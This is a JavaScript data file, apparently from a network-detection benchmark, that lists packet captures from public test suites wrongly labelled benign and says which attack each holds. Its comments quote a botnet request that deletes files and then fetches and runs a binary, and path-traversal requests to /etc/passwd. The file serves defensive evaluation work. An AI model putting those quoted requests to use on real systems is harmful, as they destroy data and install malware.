// Captures that no list labels and that hold an attack all the same: found among the false alarms, looked at packet by
// packet. Each with what it holds. Attacks made for a test count; administration, old TLS and crawlers do not.

/** @type {Record<string, string>} */
export const notBenign = {
  // The same 90 minutes as westermo-reduced-right, with the simulator's traffic: the events are in westermo-labels.csv.
  'bench/ics-westermo/westermo-extended-right.pcap':
    'man in the middle, addresses used twice, scans, password guessing',
  // 24,574 sources ask one port of 10.10.10.10 for 25,856 connections within 3.8 s, and none is completed.
  'perf/mixed_syn_dns_http.pcap.gz': 'SYN flood with forged sources',
  // Two network cards that ask every second with 170.151.24.203 as their address.
  'wireshark/4.pcap': 'an address used twice',
  // Pings and queries through a station that answers ARP and then says that it reaches nothing (ICMP in packets 68 to 74).
  'ipfixprobe/mixed.pcap': 'a gateway that leads nowhere',
  // One Ethernet source asks in the name of 50 clients within 5 ms.
  'zeek/dhcp/dhcp-unique-xid-join-data-growth.pcapng': 'DHCP starvation, made for a test',

  // Lateral movement.
  // Replication of a directory (DRSGetNCChanges), EFSRPC of PetitPotam, jobs of AT: no conversation is an ordinary one.
  'arkime/dcerpc_synthetic.pcap': 'DCSync, forced logins and remote jobs, made for a test',
  // LAB\admin of a machine that is no domain controller resolves a name (DsCrackNames) and asks for its secrets.
  'wireshark/ntlm_rpc.pcapng': 'DCSync, in the order of secretsdump',
  // A service is made and started on the next machine to dump tickets; the capture is named after it.
  'suricata/dcerpc__dcerpc-dce-iface-01__20171220_smb_psexec_mimikatz_ticket_dump-s2.pcap':
    'PsExec, to run mimikatz on another machine',
  // PSEXESVC.exe is copied to ADMIN$, run as a service, and makes a user.
  'suricata/smb2-07__20171220_smb_psexec_add_user.pcap': 'PsExec, to add a user on another machine',
  // Six accounts in turn, twice within 1.3 s, from one machine, each refused with 52e.
  'zeek/ldap/ldap_invalid_credentials.pcap': 'passwords tried on six accounts by LDAP',

  // Exploits.
  'suricata/smb2-09-trunc-file-logging.pcap': 'EternalBlue: PeekNamedPipe with STATUS_INSUFF_SERVER_RESOURCES, then it',
  // Trans2 SESSION_SETUP in packet 7, which nothing but the test for the back door sends.
  'ndpi/smbv1.pcap': 'a machine asked whether it has the back door DoublePulsar',
  'bench/lateral/pcapattack-Exploit_DoS_cve-2020-1350_dns_sig_maxspl0it.pcapng': 'SIGRed (CVE-2020-1350)',
  'bench/anomaly/sv-issue-3341-tcphdr-01_urgent11_cve_2019_12260.pcap': 'Urgent11 (CVE-2019-12260)',
  'bench/tls/zeek-heartbleed-encrypted-success.pcap': 'Heartbleed, encrypted, answered with 16 KB of memory',

  // TCP and IP bent against a monitor.
  // The answer in packet 9 is a second one to the same bytes, with another TTL.
  'zeek/tcp/qi_internet_SYNACK_curl_jsonip.pcap': 'an injected answer (Quantum Insert)',
  // A reset comes before the SYN-ACK and does not stop the conversation.
  'zeek/tcp/rst-inject-rae.pcap': 'injected resets',
  // RST, FIN and only then SYN-ACK, so that a monitor takes the connection for closed.
  'suricata/bug-3286-03-windows-evasion__with_evasion_windows.pcap': 'a handshake bent to evade a monitor',
  // Packet 3 covers the bytes of packets 1 and 2 anew, and goes on beyond the end that 2 gave.
  'zeek/ipv4/fragmented-1.pcap': 'overlapping fragments of the teardrop kind',
  // GET /msadc/..%2f../winnt/system… in fragments that overlap with other contents.
  'zeek/ipv4/fragmented-4.pcap': 'a traversal to programs of Windows, hidden in overlapping fragments',

  // Web.
  // GET //index.php?page=../../../etc/passwd, answered with 200.
  'suricata/tcp-fastopen-01__tfo.pcap': 'path traversal to /etc/passwd',
  'suricata/tcp-fastopen-03__tfo.pcap': 'path traversal to /etc/passwd',
  'suricata/tcp-fastopen-06__tfo-s1.pcap': 'path traversal to /etc/passwd',
  'zeek/tcp/tcp-fast-open.pcap': 'path traversal to /etc/passwd',
  // GET /shell?cd+/tmp;rm+-rf+*;wget+…/arm;sh+/tmp/arm, to two addresses.
  'suricata/bug-5437-02.pcap': 'a bot that spreads by commands to video recorders',
  // Content-Length and Transfer-Encoding together, and GET /smuggled-te-cl behind.
  'zeek/http/261/variant-04-te_cl_desync.pcap': 'request smuggling, made for a test',
  // 32 requests a second for .svn, .bzr, _vti_pvt/service.pwd, as "Nmap Scripting Engine".
  'suricata/http-protocol-nodup.pcap': 'a scan for files that are not public, by Nmap',
  // SYNs answered by resets and GET / as zgrab at the Modbus port, from addresses of the Internet.
  'zeek/modbus/modbus-and-non-modbus-p502.pcap': 'scanners of the Internet at a Modbus port',
  // GET /cgi-bin/cart32.exe as Nikto.
  'suricata/bug-814.pcap': 'a probe of the scanner Nikto',
};
